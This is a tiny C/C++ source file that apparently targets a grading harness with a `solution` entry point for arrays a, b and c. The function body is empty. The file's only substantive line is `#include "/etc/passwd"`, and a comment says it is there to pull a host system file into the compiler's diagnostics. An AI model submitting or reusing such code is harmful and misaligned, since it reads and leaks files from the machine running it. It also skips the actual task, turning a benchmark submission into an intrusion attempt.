// Pulls a host file into the compiler's diagnostics.
#include "/etc/passwd"

extern "C" void solution(const float* input_a, const float* input_b, float* output_c, size_t n) {}
